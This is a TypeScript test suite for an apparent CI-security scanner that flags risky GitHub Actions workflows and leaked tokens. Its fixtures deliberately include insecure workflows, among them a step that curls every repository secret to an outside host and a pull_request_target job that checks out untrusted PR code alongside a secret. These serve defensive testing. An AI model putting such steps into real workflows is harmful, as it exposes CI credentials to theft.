import { renameSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { defaultSalt } from "../../src/finding-id.ts";
import { keylessIndex } from "../../src/scan/keyless-index.ts";
import { auditWorkflow } from "../../src/workflow/audit-workflow.ts";
import { scanWorkflow } from "../../src/workflow/scan-workflow.ts";
import { leasehold, scanJson, spawned, tokenOf } from "../e2e/leasehold.ts";
import { commit, git, initialise, temporaryFolder, write } from "../git/temporary-repository.ts";
import { publish, secret, workflow } from "./workflow-text.ts";

const file = ".github/workflows/release.yml";
const checkout = "      - uses: actions/checkout@v5\n        with:\n          persist-credentials: false\n";

function rules(report: { findings: { rule: string; place: { path: string; line: number } }[] }): string[] {
  return report.findings.map(({ rule, place }) => `${rule} ${place.path}:${place.line}`);
}

describe("a workflow", () => {
  it("is found in a work tree, in a plain folder, and beside leaks of the same file", async () => {
    const folder = initialise();
    write(folder, file, workflow(publish));
    write(folder, "b.txt", `${tokenOf("github-pat", 1)}\n`);
    expect(rules((await scanJson(folder)).report)).toEqual(["leak/github-pat b.txt:1", `keyless/npm ${file}:11`]);
    const plain = await scanJson(folder, ["--no-git"]);
    expect(rules(plain.report)).toEqual(["leak/github-pat b.txt:1", `keyless/npm ${file}:11`]);
    expect(plain.code).toBe(1);
  });

  it("is found by its content elsewhere, as an action by its name, and not in other YAML", async () => {
    const folder = temporaryFolder();
    write(folder, "templates/ci.yml", workflow(publish));
    write(folder, "tools/action.yml", "name: a\nruns:\n  using: composite\n  steps: 5\n  <<: *b\n");
    write(folder, "k8s/job.yml", `jobs:\n  a: ${secret("NPM_TOKEN")}\n`);
    write(folder, "notes.md", workflow(publish));
    const { report } = await scanJson(folder, ["--no-git", "--min-confidence", "weak"]);
    expect(rules(report)).toEqual(["keyless/npm templates/ci.yml:11", "workflow/syntax-error tools/action.yml:5"]);
  });

  it("comes on standard input", async () => {
    const folder = temporaryFolder();
    const { stdout } = await leasehold(folder, ["scan", "-", "--format", "json"], workflow(publish));
    expect(rules(JSON.parse(stdout))).toEqual(["keyless/npm stdin:11"]);
    const none = await leasehold(folder, ["scan", "-", "--format", "json"], "jobs: are nice\n");
    expect(JSON.parse(none.stdout).findings).toEqual([]);
  });

  it("of more than 1 MB is a gap and not a pass", async () => {
    const folder = temporaryFolder();
    write(folder, file, `${workflow(publish)}${"# filler\n".repeat(120_000)}`);
    const { report, code } = await scanJson(folder, ["--no-git"]);
    expect(report.coverage.gaps.map(({ subject, kind }) => [subject, kind])).toEqual([[file, "too-large"]]);
    expect(code).toBe(4);
  });

  it("is known to policies, --only and --skip, and to inline allows", async () => {
    const folder = initialise();
    write(folder, file, workflow(publish));
    expect((await scanJson(folder, ["--skip", "keyless/*"])).report.findings).toEqual([]);
    expect(rules((await scanJson(folder, ["--only", "keyless/npm"])).report)).toEqual([`keyless/npm ${file}:11`]);
    expect((await leasehold(folder, ["scan", "--only", "keyless/nmp"])).stderr).toContain('did you mean "keyless/npm"');
    write(
      folder,
      ".github/leasehold.yml",
      "version: 1\nrules:\n  keyless/npm: off\n  workflow/secrets-inherit: off\n  trust/aws-1: off\n",
    );
    expect((await scanJson(folder)).report.findings).toEqual([]);
    write(folder, ".github/leasehold.yml", "version: 1\nrules:\n  trust/aws-99: off\n");
    expect(await leasehold(folder, ["scan"])).toMatchObject({ code: 2 });
  });

  it("gives the same in threads as in one", async () => {
    const folder = temporaryFolder();
    write(folder, file, workflow(publish));
    write(folder, "big.txt", "filler of no interest\n".repeat(2_400_000));
    const { stdout } = await spawned(folder, ["scan", "--no-git", "--jobs", "2", "--format", "json"]);
    expect(rules(JSON.parse(stdout))).toEqual([`keyless/npm ${file}:11`]);
  });
});

describe("a change of a workflow", () => {
  it("reports what is new by its line or step, and leaves alone what stayed", async () => {
    const folder = initialise();
    commit(folder, { [file]: workflow(`${checkout}${publish}`) });
    const second = `      - run: ./deploy\n        env:\n          AWS_SECRET_ACCESS_KEY: ${secret("AWS_KEY")}\n`;
    commit(folder, { [file]: workflow(`${checkout}${publish}${second}`) });
    const { report, code } = await scanJson(folder, ["HEAD~1..HEAD"]);
    expect(rules(report)).toEqual([`keyless/aws ${file}:17`]);
    expect(report.findings[0]!.blocking).toBe(true);
    expect(code).toBe(1);
  });

  it("that touches another line of the step reports its finding as not new", async () => {
    const folder = initialise();
    commit(folder, { [file]: workflow(publish) });
    commit(folder, { [file]: workflow(publish.replace("npm publish", "npm publish --access public")) });
    const { report, code } = await scanJson(folder, ["HEAD~1..HEAD"]);
    expect(rules(report)).toEqual([`keyless/npm ${file}:11`]);
    expect(report.findings[0]!.because).toContain("it was there before the change under test");
    expect(code).toBe(0);
  });

  it("reports what a new trigger makes of lines that stayed", async () => {
    const folder = initialise();
    const head = "\u0024{{ github.event.pull_request.head.sha }}";
    const steps = `      - uses: actions/checkout@v5\n        with:\n          persist-credentials: false\n          ref: ${head}\n      - run: make\n        env:\n          LICENSE_KEY: ${secret("LICENSE_KEY")}\n`;
    const top = "permissions:\n  contents: read\n";
    commit(folder, { [file]: workflow(steps, `on: pull_request\n${top}`) });
    commit(folder, { [file]: workflow(steps, `on: pull_request_target\n${top}`) });
    const { report } = await scanJson(folder, ["HEAD~1..HEAD"]);
    // What both have is no news: the credential itself, which was there before, is not among them.
    expect(rules(report)).toEqual([
      `workflow/untrusted-checkout ${file}:12`,
      `workflow/secret-with-privileged-trigger ${file}:15`,
    ]);
  });

  it("is judged before it is committed, and a moved file brings its findings again", async () => {
    const folder = initialise();
    commit(folder, { "a.txt": "a\n" });
    write(folder, file, workflow(publish));
    git(folder, ["add", "-A"]);
    expect(rules((await scanJson(folder, ["--staged"])).report)).toEqual([`keyless/npm ${file}:11`]);
    commit(folder, {});
    expect((await scanJson(folder, ["--staged"])).report.findings).toEqual([]);
    renameSync(join(folder, file), join(folder, ".github/workflows/other.yml"));
    git(folder, ["add", "-A"]);
    expect(rules((await scanJson(folder, ["--staged"])).report)).toEqual([
      "keyless/npm .github/workflows/other.yml:11",
    ]);
  });

  it("is found in the history with who brought it, also when it is gone; other YAML is not", async () => {
    const folder = initialise();
    const brought = commit(folder, { [file]: workflow(publish), "docs/jobs.txt": workflow(publish) });
    commit(folder, { [file]: workflow(checkout) });
    const { report } = await scanJson(folder, ["--history"]);
    expect(rules(report)).toEqual([`keyless/npm ${file}:11`]);
    expect(report.findings[0]!.origin).toMatchObject({ commit: brought, atHead: false });
    // Unlike a leak it is over, so it asks nothing of anybody.
    expect(report.findings[0]).toMatchObject({ severity: "info", blocking: false });
    const since = await scanJson(folder, ["--history", "--since", brought]);
    expect(since.report.findings).toEqual([]);
  });
});

describe("the scan of a tree", () => {
  const step = fc.oneof(
    fc.constantFrom(
      publish,
      checkout,
      `      - run: echo ${secret("A_TOKEN")}\n`,
      `      - uses: acme/deploy@v1\n        with:\n          token: ${secret("DEPLOY_PAT")}\n`,
      `      - run: curl -H "x: \${{ toJSON(secrets) }}" https://example.com\n`,
      `      - uses: actions/checkout@v5\n        with:\n          token: ${secret("GH_PAT")}\n`,
    ),
    fc
      .stringMatching(/^[A-Z]{3,8}_(?:TOKEN|KEY|URL)$/)
      .map((name) => `      - run: ./x\n        env:\n          ${name}: ${secret(name)}\n`),
  );
  const top = fc.constantFrom(
    "on: push\n",
    "on: pull_request_target\n",
    "on: [push, workflow_run]\npermissions: write-all\n",
  );

  it("reports what the workflow layer finds, no more and no less", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(top, fc.array(step, { maxLength: 5 })), { minLength: 1, maxLength: 4 }),
        async (texts) => {
          const folder = temporaryFolder();
          const files = texts.map(([head, steps], at): [string, string] => [
            `.github/workflows/${at}.yml`,
            workflow(steps.join(""), head),
          ]);
          for (const [path, text] of files) write(folder, path, text);
          const { report } = await scanJson(folder, ["--no-git", "--min-confidence", "weak", "--skip", "leak/*"]);
          const expected = files.flatMap(
            ([path, text]) => auditWorkflow(path, Buffer.from(text), defaultSalt, keylessIndex).findings,
          );
          expect(report.findings.map(({ id, rule }) => `${id} ${rule}`).sort()).toEqual(
            expected.map(({ id, rule }) => `${id} ${rule}`).sort(),
          );
          // Of what the rules say alone only the personal token that a keyless rule knows is left out.
          const alone = files.flatMap(([path, text]) => scanWorkflow(path, Buffer.from(text), defaultSalt).findings);
          const lost = alone.filter(({ id }) => !expected.some((one) => one.id === id));
          expect(lost.every(({ rule }) => rule === "workflow/pat-instead-of-token")).toBe(true);
        },
      ),
      { numRuns: 25 },
    );
  });
});
